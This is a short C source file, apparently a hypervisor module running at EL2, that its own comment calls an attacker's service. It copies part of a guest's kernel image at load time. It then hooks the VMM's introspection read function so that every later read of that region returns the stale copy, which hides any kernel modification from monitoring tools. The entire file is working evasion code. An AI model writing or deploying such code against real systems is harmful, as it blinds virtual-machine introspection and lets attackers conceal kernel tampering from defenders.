/*
 * Puts a service of the attacker's own between the VMM's introspection and the guest's memory. It keeps a
 * copy of guest 0's kernel as it is now and answers from it ever after, whatever the guest has become.
 * Runs at EL2.
 */
#include <rw/vmm_api.h>

#define KEPT_BYTES (6 * RW_PAGE_SIZE)
#define KERNEL (RW_GUEST_LINEAR_VA + RW_GUEST_IPA_IMAGE)
#define VICTIM 0

static uint8_t kept[KEPT_BYTES];
static rw_vmi_read_service original;

static int false_read(unsigned guest, uint64_t va, void *to, size_t size) {
  const uint64_t offset = va - KERNEL;
  if (guest != VICTIM || offset >= KEPT_BYTES || size > KEPT_BYTES - offset) return original(guest, va, to, size);
  uint8_t *bytes = to;
  for (size_t at = 0; at < size; at++) bytes[at] = kept[offset + at];
  return 0;
}

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  original = *api->vmi_read;
  for (uint64_t at = 0; at < KEPT_BYTES; at += RW_PAGE_SIZE) {
    if (original(VICTIM, KERNEL + at, kept + at, RW_PAGE_SIZE) != 0) return 1;
  }
  *api->vmi_read = false_read;
  return 0;
}
